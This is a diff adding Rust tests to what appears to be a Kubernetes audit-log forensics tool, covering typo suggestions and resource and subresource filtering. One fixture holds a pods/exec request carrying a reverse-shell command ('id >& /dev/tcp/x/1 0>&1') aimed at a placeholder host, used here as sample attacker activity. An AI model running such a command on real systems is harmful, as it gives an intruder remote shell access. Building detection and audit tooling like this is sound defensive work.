@@ -148,6 +148,18 @@ fn mistakes_are_named_with_what_was_meant() {
         (&["timeline", "--after", "x"][..], "is no cursor"),
         (&["who-did", "gett", "secrets"][..], "did you mean `get`?"),
         (&["who-did", "get", "secret"][..], "did you mean `secrets`?"),
+        (&["who-did", "get", "po"][..], "did you mean `pods`?"),
+        (&["who-did", "create", "exec", DAY[0], DAY[1]][..], "did you mean `pods/exec`?"),
+        (&["timeline", "--verb", "gett", DAY[0], DAY[1]][..], "did you mean `get`?"),
+        (&["timeline", "--verb", "GET", DAY[0], DAY[1]][..], "did you mean `get`?"),
+        (&["timeline", "--resource", "po", DAY[0], DAY[1]][..], "did you mean `pods`?"),
+        (&["timeline", "--resource", "deploy", DAY[0], DAY[1]][..], "did you mean `deployments`?"),
+        (&["timeline", "--resource", "pods/exce", DAY[0], DAY[1]][..], "`pods/exec`?"),
+        (
+            &["timeline", "--resource", "deployments.batch", DAY[0], DAY[1]][..],
+            "`deployments.apps`?",
+        ),
+        (&["timeline", "--alert", "AB@2026-03-04T10:00:00Z"][..], "`AB@2026-03-04T10:00:00Z`"),
         (
             &["timeline", "--class", "secret_reed", DAY[0], DAY[1]][..],
             "did you mean `secret_read`?",
@@ -188,6 +200,41 @@ fn mistakes_are_named_with_what_was_meant() {
     }
     let (code, _, told) = ask(&directory, &["timeline", "--state", "nowhere"]);
     assert!(code == 1 && told.contains("there is no ledger here"), "{told}");
+}
+
+#[test]
+fn a_subresource_and_a_group_say_which_requests_are_meant() {
+    let exec = "/api/v1/namespaces/payments/pods/web-0/exec?command=sh&command=-c&command=id%20%3E%26%20/dev/tcp/x/1%200%3E%261";
+    let pod = [("RESOURCE", "pods"), ("NAME", "web-0")];
+    let entered = |id, verb| {
+        let own = [("ID", id), ("VERB", verb), ("BELOW", "exec"), ("URI", exec), ("CODE", "101")];
+        event(&[&own[..], &pod].concat())
+    };
+    let deleted =
+        event(&[("ID", "4"), ("VERB", "delete"), ("RESOURCE", "deployments"), ("NAME", "web")])
+            .replace("\"apiVersion\":\"v1\"}", "\"apiGroup\":\"apps\",\"apiVersion\":\"v1\"}");
+    let directory = recorded(&[
+        entered("1", "create"),
+        entered("2", "get"),
+        event(&[&[("ID", "3"), ("VERB", "delete")][..], &pod].concat()),
+        deleted,
+    ]);
+    let count = |args: &[&str]| {
+        let (code, out, log) =
+            ask(&directory, &[args, &["--format=jsonl", DAY[0], DAY[1]]].concat());
+        assert_eq!(code, 0, "{args:?}: {log}");
+        out.lines().filter(|line| line.contains("\"kind\":\"access\"")).count()
+    };
+    assert_eq!(count(&["timeline", "--resource", "pods"]), 3);
+    assert_eq!(count(&["timeline", "--resource", "pods/exec"]), 2);
+    assert_eq!(count(&["timeline", "--resource", "pods/log"]), 0);
+    // One way to enter a pod is `create`, the other `get`.
+    assert_eq!(count(&["who-did", "create", "pods/exec", "web-0", "-n", "payments"]), 2);
+    assert_eq!(count(&["who-did", "create", "pods"]), 1);
+    assert_eq!(count(&["timeline", "--resource", "deployments.apps"]), 1);
+    assert_eq!(count(&["who-did", "delete", "deployments.apps/scale"]), 0);
+    let (_, out, _) = ask(&directory, &["timeline", "--resource", "pods/exec", DAY[0], DAY[1]]);
+    assert!(out.contains("-- sh -c id '>&' /dev/tcp/x/1 '0>&1'"), "{out}");
 }
 
 /// What machines read is rolled up by the hour.
